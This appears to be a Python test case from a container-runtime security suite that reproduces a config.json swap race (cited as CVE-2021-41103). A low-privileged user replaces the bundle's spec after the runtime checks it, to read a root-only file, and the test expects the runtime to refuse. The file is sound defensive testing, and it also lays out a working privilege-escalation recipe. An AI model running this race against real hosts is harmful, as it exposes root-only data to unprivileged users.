"""config.json is exchanged after the look at it, by a user who may write the bundle's directory."""

import json
import os

from bypass import refused

SOURCE = "CVE-2021-41103: an engine's directories that others may write"
WAY = "race"
STOPPED = refused("bundle")


def attack(t):
    t.plant("/root/only-root", 0o600)
    t.bind("/root", "/x")
    t.lay("cat /x/only-root")
    os.rename(t.bundle + "/config.json", t.bundle + "/evil.json")
    t.spec["mounts"].pop()
    t.lay("cat /x/only-root")
    os.chown(t.bundle, 1000, 1000)
    t.before_low("mv %s/evil.json %s/config.json" % (t.bundle, t.bundle))
    t.create_by("create", "--bundle", t.bundle, "--pid-file", t.pid_file, t.id)
    t.start()
    return t.leaked(t.ended())
